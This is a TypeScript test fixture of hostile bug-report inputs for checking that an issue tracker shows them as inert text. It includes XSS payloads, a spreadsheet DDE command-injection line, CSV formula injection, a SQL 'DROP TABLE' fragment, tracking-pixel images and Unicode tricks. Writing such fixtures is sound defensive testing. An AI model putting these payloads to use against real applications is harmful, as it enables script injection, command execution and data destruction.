/** What somebody who means harm, or a copied stack trace, puts into an issue. Shown as text, none of it may do anything. */
export const HOSTILE_ISSUES: readonly { title: string; description: string }[] = [
  {
    title: `<script>alert("basket")</script> typed into the product search breaks the page`,
    description: `Steps: search for \`"><img src=x onerror=alert(1)>\`.\n\n<script>document.title = "owned"</script>\n<img src="https://tracker.example.com/pixel.gif" onerror="alert(1)">\n<iframe src="javascript:alert(2)"></iframe>\n\n[harmless looking link](javascript:alert(3)) and [another](data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==)\n\n<a href="vbscript:msgbox(5)">legacy</a> ![tracker](https://tracker.example.com/open.png)`,
  },
  {
    title: "A".repeat(200) + "_no_space_anywhere",
    description: `${"x".repeat(4_000)}\n\n| ${"very_wide_cell_".repeat(40)} | b |\n| --- | --- |\n| 1 | ${"y".repeat(600)} |`,
  },
  {
    title: `Export: =HYPERLINK("https://example.com/"&A1,"open") ends up as a formula`,
    description: `The CSV opens with live formulas:\n\n\`\`\`\n=1+1\n+cmd|' /C calc'!A0\n@SUM(A1:A9)\n\`\`\`\n\n${"*a_".repeat(2_000)}`,
  },
  {
    title: `Product name with \u202Eright-to-left override\u202C and '; DROP TABLE issues; -- in the report`,
    description: `${"> ".repeat(120)}deeply quoted\n\n${"- ".repeat(80)}deep list\n\nZero width: a\u200Bb\u200Cc, combining: Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘, null-like: %00 \\u0000`,
  },
];
